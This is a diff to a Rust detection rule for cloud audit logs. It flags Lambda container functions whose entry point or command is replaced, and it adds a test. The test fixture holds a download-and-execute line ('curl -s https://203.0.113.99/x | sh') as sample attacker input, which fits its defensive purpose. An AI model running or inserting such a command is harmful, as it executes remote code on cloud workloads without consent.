@@ -8,6 +8,12 @@
 //! make on a stack's behalf. Medium severity: CI pipelines deploy code all day, and the
 //! finding is for teams where that is the exception. A dry run (`dryRun` true) only
 //! validates the request and changes nothing: it does not fire.
+//!
+//! A container-image function runs new code without new code too (from a second
+//! evasion review): `UpdateFunctionConfiguration` replacing its `imageConfig`
+//! `entryPoint` or `command` runs whatever command it names from the image it
+//! has, the code hash unchanged. It counts as a code update, the new entry point
+//! and command in the evidence.
 
 use crate::detection::{Detection, Meta, Severity, Signal, Trigger, fire};
 use crate::detections::common::{call_context, flag_value, lambda_change_by_caller};
@@ -41,6 +47,8 @@ pub static META: Meta = Meta {
         &[
             "UpdateFunctionCode20150331",
             "UpdateFunctionCode20150331v2",
+            "UpdateFunctionConfiguration20150331",
+            "UpdateFunctionConfiguration20150331v2",
         ],
     )],
     window: None,
@@ -52,6 +60,19 @@ impl Detection for LambdaFunctionCodeUpdated {
     }
 
     fn evaluate(&self, rec: &Record<'_>) -> Option<Signal> {
+        if lambda_change_by_caller(rec, "UpdateFunctionConfiguration") {
+            let image = rec.request_param("imageConfig")?;
+            let run = |k: &str| image.get(k).filter(|v| !v.is_null());
+            if run("entryPoint").is_none() && run("command").is_none() {
+                return None;
+            }
+            return fire(
+                call_context(rec)
+                    .with_opt("function", rec.request_param_str("functionName"))
+                    .with_json("entry_point", run("entryPoint"))
+                    .with_json("command", run("command")),
+            );
+        }
         if !lambda_change_by_caller(rec, "UpdateFunctionCode")
             || rec.request_param("dryRun").and_then(flag_value) == Some(true)
         {
@@ -79,6 +100,27 @@ mod tests {
 
     fn evidence(json: &str) -> Evidence {
         fired_evidence(&LambdaFunctionCodeUpdated, json)
+    }
+
+    /// From a second evasion review: a container function's command replaced.
+    #[test]
+    fn an_image_functions_entry_point_replaced_fires() {
+        let config = |image: &str| {
+            record(
+                "lambda.amazonaws.com",
+                "UpdateFunctionConfiguration20150331v2",
+                ROLE,
+                &format!(r#"{{"functionName":"payments-webhook","imageConfig":{image}}}"#),
+                "",
+            )
+        };
+        let e = evidence(&config(r#"{"entryPoint":["/bin/sh","-c"],"command":["curl -s https://203.0.113.99/x | sh"]}"#));
+        assert_eq!(e.get("entry_point"), Some(&serde_json::json!(["/bin/sh", "-c"])));
+        assert!(fires(&LambdaFunctionCodeUpdated, &config(r#"{"command":["app.handler2"]}"#)));
+        assert!(!fires(&LambdaFunctionCodeUpdated, &config(r#"{"workingDirectory":"/var/task"}"#)));
+        let environment = record("lambda.amazonaws.com", "UpdateFunctionConfiguration20150331v2", ROLE,
+            r#"{"functionName":"payments-webhook","environment":{"variables":{"LOG_LEVEL":"debug"}}}"#, "");
+        assert!(!fires(&LambdaFunctionCodeUpdated, &environment));
     }
 
     #[test]
